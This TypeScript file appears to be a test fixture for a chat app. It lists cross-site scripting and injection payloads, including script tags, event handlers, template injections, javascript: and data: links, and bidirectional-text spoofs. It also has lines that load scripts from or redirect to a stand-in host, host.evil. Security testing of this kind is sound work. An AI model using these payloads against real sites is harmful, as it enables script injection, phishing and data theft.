/** What has made scripts run in other places, by what it tries to break out of. */
export const PAYLOADS: readonly string[] = [
  // Elements
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//host.evil/x.js></script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC=`x` ONERROR=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script>',
  '<svg><animate onbegin=alert(1)>',
  '<math><mi xlink:href=x onclick=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<style>@import "//host.evil/x"</style>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//host.evil>',
  '<meta http-equiv=refresh content="0;url=//host.evil">',
  '<base href=//host.evil/>',
  '<form action=//host.evil><button>Log out',
  '<template><img src=x onerror=alert(1)>',
  '<plaintext>',
  '<!--><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  // Out of what surrounds it
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '</p></article><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '＜img src=x onerror=alert(1)＞',
  // Templates
  '<%= constructor.constructor("alert(1)")() %>',
  '<%~ "<img src=x onerror=alert(1)>" %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template literal must not take.
  '${alert(1)}`+alert(1)+`',
  '{{constructor.constructor("alert(1)")()}}',
  // Directions
  '\u202e<img src=x onerror=alert(1)>',
  '\u2066\u202egnp.exe\u2069',
  // Links
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://example.org',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript\n:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://example.org/x',
  '[click](javascript:alert(1))',
  '<a href="javascript:alert(1)">https://example.org</a>',
  'https://example.org/"onmouseover="alert(1)',
  "https://example.org/'onmouseover='alert(1)",
  'https://example.org/<script>alert(1)</script>',
  'https://example.org/?q=<img/src=x/onerror=alert(1)>',
  'https://javascript:alert(1)@example.org/',
  'https://xn--pple-43d.com/ https://аррӏе.com/',
  'HTTPS://EXAMPLE.ORG/\u202egnp.exe',
  'https://example.org\\@host.evil/',
  'http://[::1]/<b> http://[x http://',
  'view-source:https://example.org feed:javascript:alert(1)',
];

/** The same where there is less room: no colon, nothing invisible, 32 characters. */
export const usernameOf = (payload: string, n: number): string =>
  `${n}${payload}`
    .replace(/[:\p{Cc}\p{Cf}]/gu, '')
    .slice(0, 32)
    .trim();

/** The same in one line of 80 characters, without what a name of a chat must not have. */
export const chatNameOf = (payload: string): string =>
  payload
    .replace(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu, '')
    .slice(0, 80)
    .trim();
